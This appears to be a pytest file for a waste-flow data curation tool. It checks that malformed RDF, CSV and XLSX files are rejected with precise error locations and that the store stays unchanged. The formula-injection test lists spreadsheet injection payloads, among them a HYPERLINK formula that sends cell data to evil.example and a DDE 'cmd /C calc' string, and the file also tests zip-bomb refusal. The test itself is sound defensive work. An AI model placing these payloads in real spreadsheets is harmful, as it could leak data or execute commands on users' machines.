"""The bad-input corpus (tests/curation/bad/): each file gets a clear error or report naming the
place (file, line and column, or row and column), and the store is left exactly as it was."""

from __future__ import annotations

from pathlib import Path

import pytest

from eitkg.curation import commit_import
from eitkg.errors import InputError, RdfSyntaxError, ValidationFailedError
from eitkg.queries import QueryCatalogue
from eitkg.store import OxigraphStore

from .conftest import Snapshot
from .helpers import prepare

BAD = Path(__file__).parent / "bad"

#: file → (line, column, words of the message): the file cannot be read at all.
UNREADABLE: dict[str, tuple[int | None, int | None, str]] = {
    "malformed.ttl": (5, 21, "not a valid subject"),
    "truncated.ttl": (4, 16, "Unexpected end of file"),
    "truncated.jsonld": (3, 11, "Unexpected end of file"),
    "malformed.rdf": (None, None, "expected `</rdf:Description>`"),
    "bad-iri.nt": (2, 1, "Invalid IRI code point"),
    "malformed.trig": (3, 1, "Unexpected end"),
    "malformed.nq": (1, 83, "No scheme found"),
    "no-triples.jsonld": (None, None, "no RDF triple"),
    "empty.csv": (None, None, "the file is empty"),
    "blank.csv": (None, None, "the file is empty"),
    "wrong-encoding.csv": (2, 12, "byte 0x81 cannot be read as UTF-8 or Windows-1252"),
    "binary-garbage.csv": (1, 1, "binary data"),
    "missing-required-columns.csv": (1, None, "missing required column(s): direction / sens"),
    "unbalanced-quote.csv": (3, None, "malformed CSV"),
    "not-a-workbook.xlsx": (None, None, "not a valid XLSX workbook"),
    "unknown-kind.pdf": (None, None, "cannot tell the kind of file"),
}

#: file → (rule, row, column header, offending value): read, but rejected by the report.
REJECTED: dict[str, tuple[str, int | None, str | None, str | None]] = {
    "header-only.csv": ("no-rows", 1, None, None),
    "unknown-unit.csv": ("unknown-unit", 3, "unite", "bennes"),
    "negative-quantity.csv": ("negative-quantity", 4, "quantite", "-12,5"),
    "non-numeric-quantity.csv": ("not-a-number", 2, "quantite", "douze tonnes"),
    "unknown-category.csv": ("unknown-category", 2, "categorie", "platique souple"),
    "malformed-waste-code.csv": ("malformed-waste-code", 2, "code_dechet", "03 01"),
    "unknown-waste-code.csv": ("unknown-waste-code", 2, "code_dechet", "03 01 06"),
    "siret-luhn.csv": ("Siret-luhn", 3, "siret", "55208131700027"),
    "siret-too-short.csv": ("Siret-format", 2, "siret", "55208131700"),
    "latitude-out-of-range.csv": ("Site-lat", 2, "latitude", "95.2"),
    "lat-lon-swapped.csv": ("lat-lon-swapped", 2, "latitude", "4.85, 45.76"),
    "latitude-only.csv": ("lat-lon-incomplete", 2, "longitude", ""),
    "duplicate-record-id.csv": ("duplicate-record-id", 3, "identifiant", "A-1"),
    "unknown-direction.csv": ("unknown-direction", 2, "sens", "dedans"),
    "missing-direction.csv": ("missing-direction", 2, "sens", ""),
    "missing-label.csv": ("Flow-label", 3, "libelle", None),
    "no-actor.csv": ("missing-actor", 2, "nom_acteur", ""),
    "bad-date.csv": ("not-a-date", 2, "disponible_du", "31/02/2024"),
    "dates-reversed.csv": ("Flow-dateOrder", 2, "disponible_du", "2024-12-31"),
    "hazardous-mismatch.csv": ("WasteCodedFlow-absoluteHazard", 2, "dangereux", "false"),
    "unknown-naf.csv": ("unknown-naf", 2, "code_naf", "99.99Z"),
    "unknown-period.csv": ("unknown-period", 2, "periodicite", "trimestre"),
    "unknown-treatment.csv": ("unknown-treatment", 2, "traitement_actuel", "Z 12"),
    "bad-boolean.csv": ("not-a-boolean", 2, "confidentiel", "peut-être"),
    "formula-injection.csv": ("formula-call", 3, "nom_acteur", "+cmd|' /C calc'!A0"),
    "shapes-violation.ttl": ("Flow-quantityNonNegative", 4, None, "-3.5"),
    "siren-in-rdf.ttl": ("Siren-luhn", None, None, "552081318"),
}


def test_the_corpus_is_complete() -> None:
    files = {p.name for p in BAD.iterdir()}
    assert files == set(UNREADABLE) | set(REJECTED)
    assert len(files) >= 30


@pytest.fixture(scope="module")
def store(seeded_store: OxigraphStore) -> OxigraphStore:
    return seeded_store


@pytest.mark.parametrize("name", sorted(UNREADABLE))
def test_unreadable_files_name_the_place(
    store: OxigraphStore, catalogue: QueryCatalogue, name: str
) -> None:
    line, column, words = UNREADABLE[name]
    before = Snapshot.of(store)
    with pytest.raises(InputError) as caught:
        prepare(store, catalogue, (BAD / name).read_bytes(), name)
    error = caught.value
    assert Path(error.location.source).name == name
    assert (error.location.line, error.location.column) == (line, column)
    assert words in error.message
    if name.endswith((".ttl", ".nt", ".nq", ".trig", ".jsonld", ".rdf")) and line is not None:
        assert isinstance(error, RdfSyntaxError)
    assert Snapshot.of(store) == before


@pytest.mark.parametrize("name", sorted(REJECTED))
def test_rejected_files_report_row_column_and_value(
    store: OxigraphStore, catalogue: QueryCatalogue, name: str
) -> None:
    rule, row, header, value = REJECTED[name]
    before = Snapshot.of(store)
    prepared = prepare(store, catalogue, (BAD / name).read_bytes(), name)
    report = prepared.report
    assert not report.conforms
    matching = [
        f
        for f in report.findings
        if (f.rule, f.row, f.header, f.value) == (rule, row, header, value)
    ]
    assert len(matching) == 1, [(f.rule, f.row, f.header, f.value) for f in report.findings]
    found = matching[0]
    assert found.severity == "Violation"
    assert found.message_fr and found.message_en and (found.fix_fr or found.origin == "shacl")
    with pytest.raises(ValidationFailedError):
        commit_import(store, prepared, catalogue=catalogue, curator="test")
    assert Snapshot.of(store) == before


def test_formula_injection_flags_every_cell_and_keeps_the_text(
    store: OxigraphStore, catalogue: QueryCatalogue
) -> None:
    prepared = prepare(store, catalogue, (BAD / "formula-injection.csv").read_bytes(), "f.csv")
    flagged = sorted(
        (f.row, f.header, f.value) for f in prepared.report.findings if f.rule == "formula-call"
    )
    assert flagged == [
        (2, "libelle", '=HYPERLINK("http://evil.example/?x="&A1,"voir")'),
        (3, "nom_acteur", "+cmd|' /C calc'!A0"),
        (4, "libelle", "@SUM(1+9)*cmd|' /C calc'!A0"),
    ]
    labels = {
        q.object.value
        for q in prepared.public  # type: ignore[union-attr]
        if q.predicate.value.endswith("rdf-schema#label")
    }
    assert '=HYPERLINK("http://evil.example/?x="&A1,"voir")' in labels  # kept as text


def test_a_file_over_the_size_cap_is_refused(
    store: OxigraphStore, catalogue: QueryCatalogue
) -> None:
    cap = 64 * 1024  # the cap is a setting; a small one keeps the test fast
    data = (BAD.parent / "bad" / "unknown-unit.csv").read_bytes() * (cap // 200)
    assert len(data) > cap
    before = Snapshot.of(store)
    with pytest.raises(InputError, match="more than the limit") as caught:
        prepare(store, catalogue, data, "big.csv", max_bytes=cap)
    assert caught.value.location.source == "big.csv"
    assert Snapshot.of(store) == before


def test_a_zip_bomb_is_refused(store: OxigraphStore, catalogue: QueryCatalogue) -> None:
    from .test_tabular import zip_bomb

    before = Snapshot.of(store)
    with pytest.raises(InputError, match="zip bomb"):
        prepare(store, catalogue, zip_bomb(), "bomb.xlsx")
    assert Snapshot.of(store) == before
